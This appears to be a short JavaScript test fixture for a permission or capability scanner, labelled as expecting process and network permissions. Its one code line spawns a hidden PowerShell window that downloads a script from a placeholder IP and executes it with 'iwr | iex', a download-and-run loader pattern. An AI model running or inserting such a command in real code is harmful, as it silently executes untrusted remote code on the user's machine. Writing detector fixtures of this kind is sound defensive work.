// PowerShell takes its command line as a plain argument.
const { spawn } = require("child_process");
spawn("powershell.exe", ["-WindowStyle hidden -Command iwr http://203.0.113.8/a.ps1 | iex"]); // expect: perm-process, perm-network
